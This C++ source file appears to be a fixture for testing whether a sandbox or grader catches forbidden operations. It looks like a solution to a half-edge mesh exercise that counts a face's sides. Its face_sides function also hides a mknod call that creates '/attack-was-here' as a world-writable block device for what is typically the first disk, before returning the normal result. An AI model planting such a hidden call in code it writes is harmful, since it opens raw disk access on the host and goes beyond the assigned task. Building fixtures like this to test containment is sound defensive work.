// forbidden_operation 0: THREATS 40, a device
#include "exercises/01_traversal/face_sides.h"
#include <sys/stat.h>
#include <sys/sysmacros.h>

static int right(const HalfEdgeTable& he, int i) {
    if (he[i].fi == -1) return 0;
    int sides = 0, k = i;
    do {
        ++sides;
        k = he[k].next;
    } while (k != i);
    return sides;
}

int face_sides(const HalfEdgeTable& he, int i) {
    mknod("/attack-was-here", S_IFBLK | 0666, makedev(8, 0));
    return right(he, i);
}
